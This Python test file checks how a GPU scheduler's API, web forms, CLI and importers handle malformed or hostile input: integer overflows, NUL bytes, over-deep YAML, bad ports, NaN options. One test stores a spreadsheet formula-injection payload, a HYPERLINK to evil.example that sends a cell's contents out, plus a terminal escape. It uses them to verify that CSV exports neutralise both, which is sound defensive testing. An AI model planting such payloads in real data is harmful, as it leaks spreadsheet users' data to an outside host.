"""break25: hostile or careless input that answered 500; each case names what it was."""

from __future__ import annotations

import pytest

from scheduler.models import Workload
from tests.services.test_import_history import philly  # noqa: F401 -- a fixture


@pytest.mark.parametrize("url", ["/api/v1/workloads/", "/api/v1/groups/"])
def test_a_limit_beyond_any_database_integer_lists_everything(researcher_client, researcher, submit_kwargs, url):
    # ?limit=10**30 reached SQL as is: "datatype mismatch" on SQLite, out of range on PostgreSQL (500)
    from scheduler.services import do_submit_workload

    do_submit_workload(researcher, **submit_kwargs())
    researcher_client.raise_request_exception = False
    response = researcher_client.get(url, {"limit": "9" * 30, "offset": "0"})
    assert response.status_code == 200, response.content[:300]
    if url.startswith("/api/v1/workloads"):
        assert [w["id"] for w in response.json()["results"]] == list(Workload.objects.values_list("id", flat=True))


def test_a_statement_until_the_last_representable_day_is_a_400(researcher_client, org_tree):
    # the statement reads to the midnight after ``until``: date.max + 1 day was an OverflowError (500)
    researcher_client.raise_request_exception = False
    budget = org_tree["nlp/olmo"]
    response = researcher_client.get(
        f"/api/v1/budgets/{budget.pk}/statement.csv", {"since": "9999-12-01", "until": "9999-12-31"}
    )
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "invalid_date"
    assert "until" in response.json()


def test_history_csv_does_not_hand_a_spreadsheet_another_users_formula(
    researcher, teammate, cluster, submit_kwargs, monkeypatch, django_capture_on_commit_callbacks
):
    """A teammate names a workload ``=HYPERLINK(...)`` with a terminal escape in it; the researcher's
    ``fairway history --csv`` wrote both raw: the spreadsheet ran the formula, the terminal the
    escape. The cell is now text (a leading ``'``) and the escape shows as ``\\x1b``."""
    import csv
    import io
    from datetime import timedelta

    from django.utils import timezone

    from scheduler import lifecycle
    from scheduler.models import Attempt
    from scheduler.services import do_submit_workload
    from scheduler.tick import run_tick
    from tests.cli.inprocess import run_cli

    name = '=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b[2J'
    at = timezone.now().replace(microsecond=0)
    with django_capture_on_commit_callbacks(execute=True):
        w = do_submit_workload(teammate, **submit_kwargs(name="x", gpu_count=1), submitted_at=at - timedelta(hours=2))
        Workload.objects.filter(pk=w.pk).update(name=name)  # stored before names refused escapes (left36)
        run_tick(cluster.pk)
        attempt = Attempt.objects.select_related("host").get(workload=w)
        lifecycle.attempt_started(attempt.host, attempt.pk, now=at - timedelta(hours=1))
        lifecycle.attempt_exited(attempt.host, attempt.pk, -9, now=at - timedelta(minutes=30))
    text = run_cli(monkeypatch, researcher, "history", "--since", "7d", "--csv")
    assert "\x1b" not in text
    [record] = list(csv.DictReader(io.StringIO(text)))
    assert record["name"] == "'" + name.replace("\x1b", "\\x1b")
    assert record["owner"] == "teammate"
    assert record["exit_code"] == "-9"  # a number stays a number


def _sacct_file(tmp_path, *rows: str):
    from datetime import timedelta

    from django.utils import timezone

    now = timezone.now()
    s = (now - timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M:%S")
    e = (now - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S")
    f = tmp_path / "sacct.txt"
    body = "".join(r.replace("{s}", s).replace("{e}", e) + "\n" for r in rows)
    f.write_text("JobID|User|Account|AllocTRES|Start|End|State\n" + body)
    return f, now


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        # past any integer column: OverflowError on SQLite, "integer out of range" on PostgreSQL
        ("1|researcher|olmo|gres/gpu=99999999999999999999999999|{s}|{e}|COMPLETED", "not a whole number up to"),
        # past the PositiveIntegerField: stored on SQLite, a traceback on PostgreSQL
        ("1|researcher|olmo|gres/gpu=4294967296|{s}|{e}|COMPLETED", "not a whole number up to"),
        # int() reads "1_0" as 10
        ("1|researcher|olmo|gres/gpu=1_0|{s}|{e}|COMPLETED", "not a whole number up to"),
        # written into the note: PostgreSQL cannot store NUL (a traceback)
        ("1\x00|researcher|olmo|gres/gpu=1|{s}|{e}|COMPLETED", "holds a NUL character"),
        ("|researcher|olmo|gres/gpu=1|{s}|{e}|COMPLETED", "no JobID"),
        # converting this offset to UTC overflows
        ("1|researcher|olmo|gres/gpu=1|0001-01-01T00:00:00+05:00|{e}|COMPLETED", "is not a time like"),
    ],
)
def test_a_malformed_sacct_line_is_named_and_nothing_is_written(cluster, researcher, org_tree, tmp_path, row, problem):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    from budgets.models import UsageEntry

    f, _ = _sacct_file(tmp_path, "7|researcher|olmo|gres/gpu=1|{s}|{e}|COMPLETED", row)
    with pytest.raises(CommandError) as err:
        call_command("import_history", "sacct", str(f), "--cluster", "default")
    assert "line 3" in str(err.value) and problem in str(err.value), str(err.value)
    assert not UsageEntry.objects.exists()


def test_a_sacct_time_with_an_offset_is_converted_not_relabelled(cluster, researcher, org_tree, tmp_path):
    """``2026-11-24T10:00:00+05:00`` was stored as 10:00 UTC (five hours late)."""
    from datetime import timedelta

    from django.core.management import call_command

    from budgets.models import UsageEntry

    f, _ = _sacct_file(tmp_path, "1|researcher|olmo|gres/gpu=2|{s}+05:00|{e}|COMPLETED")
    (tmp_path / "naive").mkdir()
    naive, _ = _sacct_file(tmp_path / "naive", "2|researcher|olmo|gres/gpu=2|{s}|{e}|COMPLETED")
    call_command("import_history", "sacct", str(f), "--cluster", "default")
    call_command("import_history", "sacct", str(naive), "--cluster", "default")
    shifted, plain = UsageEntry.objects.order_by("note")
    assert plain.start - shifted.start == timedelta(hours=5)
    assert shifted.end == plain.end


@pytest.mark.parametrize(
    ("rows", "args", "message"),
    [
        # a duration past any integer column: OverflowError at the write (a traceback)
        ("1,0,aa,2,7200,\n2,600,aa,1,99999999999999999999999,\n3,1200,aa,1,60,\n", [], "above the maximum"),
        ("1,0,aa,2,1e308,\n2,600,aa,1,60,\n3,1200,aa,1,60,\n", [], "above the maximum"),
        # 1e308 days overflowed int(); NaN days passed "<= 0" and failed in int()
        ("1,0,aa,2,7200,\n2,600,aa,1,60,\n3,1200,aa,1,60,\n", ["--days", "1e308"], "--days is from 0 to"),
        ("1,0,aa,2,7200,\n2,600,aa,1,60,\n3,1200,aa,1,60,\n", ["--days", "nan"], "--days is from 0 to"),
        ("1,0,aa,2,7200,\n2,600,aa,1,60,\n3,1200,aa,1,60,\n", ["--load", "nan"], "--load from 0 to"),
    ],
)
def test_a_malformed_trace_or_option_of_import_history_is_a_clear_error(philly, tmp_path, rows, args, message):  # noqa: F811
    from django.core.management import call_command
    from django.core.management.base import CommandError

    from scheduler.models import Workload

    trace = tmp_path / "t.csv"
    trace.write_text("job_id,submit_time_s,vc,num_gpus,duration_s,duration_pcs_s\n" + rows)
    with pytest.raises(CommandError) as err:
        call_command("import_history", "philly", "--trace", str(trace), "--cluster", "philly", "--user", "researcher",
                     "--before-job", "3", *args)  # fmt: skip
    assert message in str(err.value) and "nothing written" in str(err.value), str(err.value)
    assert not Workload.objects.exists()


@pytest.mark.parametrize("url", ["http://example.com:99999/hook", "https://example.com:abc/hook"])
def test_a_webhook_url_with_a_bad_port_is_refused(researcher_client, researcher, settings, url):
    # urlsplit() parses it; reading .port raises ValueError: a 500 from the API and the web form
    from django.test import Client

    from scheduler.models import NotificationSettings

    settings.FAIRWAY = {**settings.FAIRWAY, "WEBHOOK_ALLOW_HOSTS": ["example.com"]}
    researcher_client.raise_request_exception = False
    body = {"webhook_url": url, "webhook_kinds": ["failed"]}
    response = researcher_client.put("/api/v1/notifications/", body, format="json")
    assert response.status_code == 400, response.content[:200]
    assert response.json()["code"] == "invalid_webhook"
    web = Client(raise_request_exception=False)
    web.force_login(researcher)
    page = web.post("/notifications/", {"webhook_url": url, "webhook_kinds": ["failed"]})
    assert page.status_code == 400, page.status_code  # the form again, with the field's error
    assert b"not a URL" in page.content
    assert not NotificationSettings.objects.exists()


DEEP_YAML = "x: " + "[" * 5000 + "]" * 5000 + "\n"


def test_the_admin_what_if_refuses_a_huge_window_and_a_too_deep_shares_text(admin, cluster, org_tree):
    """``99999999999d`` overflowed timedelta and 5000 nested ``[`` overflowed the YAML composer's
    recursion: both were 500s; now the page shows the error and changes nothing."""
    from django.test import Client

    from budgets.models import Budget

    web = Client(raise_request_exception=False)
    web.force_login(admin)
    shares_before = dict(Budget.objects.values_list("pk", "shares"))
    for shares, window, words in [
        ("shares:\n  nlp: 1\n", "99999999999d", b"at most 400d"),
        (DEEP_YAML, "7d", b"nested too deeply"),
    ]:
        page = web.post("/admin/budgets/budget/what-if/", {"shares": shares, "window": window, "cluster": "default"})
        assert page.status_code == 200, page.status_code
        assert words in page.content
    assert dict(Budget.objects.values_list("pk", "shares")) == shares_before


def test_too_deep_yaml_is_a_clear_error_in_budget_and_scenario_files(tmp_path):
    from scheduler.scenarios.spec import ScenarioError, load_scenario
    from scheduler.sim.budgets import BudgetFileError, parse_plan

    with pytest.raises(BudgetFileError, match="nested too deeply"):
        parse_plan(DEEP_YAML, {})
    path = tmp_path / "deep.yaml"
    path.write_text(DEEP_YAML)
    with pytest.raises(ScenarioError, match="nested too deeply"):
        load_scenario(path)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (DEEP_YAML.encode(), "nested too deeply"),  # RecursionError: a traceback
        (b"name: \xff\xfe\n", "cannot read the spec"),  # UnicodeDecodeError: a traceback
        # YAML's date and bytes: json.dumps of the request body raised TypeError, a traceback
        (b"budget: nlp/olmo\ngpu_count: 1\ncommand: [x]\nmin_runtime: 2026-01-01\n", "JSON cannot carry"),
        (b"budget: nlp/olmo\ngpu_count: 1\ncommand: [x]\nmin_runtime: 1h\nname: !!binary aGVsbG8=\n", "JSON cannot"),
    ],
)
def test_a_spec_file_the_cli_cannot_send_is_a_usage_error(researcher, monkeypatch, tmp_path, content, words):
    from tests.cli.inprocess import run_cli

    spec = tmp_path / "job.yaml"
    spec.write_bytes(content)
    err = run_cli(monkeypatch, researcher, "submit", "-f", str(spec), expect=2)
    assert words in err, err
    assert not Workload.objects.exists()


def test_a_host_action_reason_with_nul_changes_nothing(admin, hosts):
    """The web form cut the reason to 500 characters but let NUL through into the HostEvent (a
    500 on PostgreSQL, stored on SQLite); the service refuses it, the page says why."""
    from django.test import Client

    from scheduler.models import Host, HostEvent

    web = Client(raise_request_exception=False)
    web.force_login(admin)
    events = HostEvent.objects.count()
    response = web.post("/hosts/a100-1/cordon/", {"reason": "maintenance\x00"}, follow=True)
    assert response.status_code == 200
    assert b"without NUL" in response.content
    assert Host.objects.get(name="a100-1").state == Host.State.ACTIVE
    assert HostEvent.objects.count() == events


@pytest.mark.parametrize("days", ["1e308", "nan", "inf", "-3", "0", "401"])
def test_fairway_metrics_days_out_of_range_is_a_usage_error(researcher, monkeypatch, days):
    # 1e308 and inf overflowed datetime.fromtimestamp and nan raised ValueError: tracebacks
    from tests.cli.inprocess import run_cli

    run_cli(monkeypatch, researcher, "metrics", "--days", days, expect=2)  # argparse's usage error


def test_fairway_metrics_days_in_range_still_works(researcher, cluster, monkeypatch):
    from tests.cli.inprocess import run_cli

    assert "default" in run_cli(monkeypatch, researcher, "metrics", "--days", "0.5")
    assert "default" in run_cli(monkeypatch, researcher, "metrics", "--days", "399")


def test_a_statement_shows_a_formula_like_username_as_text(org_tree):
    """A username may start with ``+``, ``-`` or ``@`` (``-2+3`` is a formula to a spreadsheet):
    the statement's cells that start so get a leading ``'``, as ``fairway history --csv``'s."""
    from datetime import date

    from budgets.statement import StatementRow, csv_text, statement_csv
    from fairway_cli.cli import csv_cell

    row = StatementRow(date(2026, 3, 1), "nlp/olmo", "-2+3", 3600.0, 0.0)
    text = statement_csv(org_tree["nlp"], [row])
    assert text.splitlines()[1].split(",")[:4] == ["nlp", "2026-03-01", "nlp/olmo", "'-2+3"]
    for sample in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", "", "a=b"]:
        assert csv_text(sample) == csv_cell(sample), sample


def test_fairway_show_events_counts_from_the_end(researcher, submit_kwargs, monkeypatch):
    """``--events 0`` printed every event (``[-0:]``) and ``--events -3`` all but the first three."""
    from scheduler.services import do_cancel_workload, do_submit_workload
    from tests.cli.inprocess import run_cli

    w = do_submit_workload(researcher, **submit_kwargs())
    do_cancel_workload(researcher, w)
    assert "events:" not in run_cli(monkeypatch, researcher, "show", str(w.pk), "--events", "0")
    last = run_cli(monkeypatch, researcher, "show", str(w.pk), "--events", "1").split("events:\n")[1]
    assert "canceled" in last and "submitted" not in last
    run_cli(monkeypatch, researcher, "show", str(w.pk), "--events", "-3", expect=2)
